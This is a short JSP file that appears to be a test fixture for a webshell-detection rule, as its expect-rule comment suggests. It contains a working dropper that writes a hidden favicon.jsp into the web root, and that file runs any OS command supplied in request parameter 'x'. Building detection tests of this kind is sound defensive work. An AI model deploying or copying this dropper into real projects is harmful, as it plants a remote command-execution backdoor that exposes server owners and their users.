<%-- expect rule=jsp.file-write-webshell min=80 --%>
<%!
    static final String BODY = "<%Runtime.getRuntime().exec(request.getParameter(\"x\"));%" + ">";
    void put(java.io.File f, String s) throws Exception {
        java.io.FileWriter w = new java.io.FileWriter(f);
        w.write(s);
        w.close();
    }
%>
<%
    put(new java.io.File(application.getRealPath("/"), "favicon.jsp"), BODY);
%>
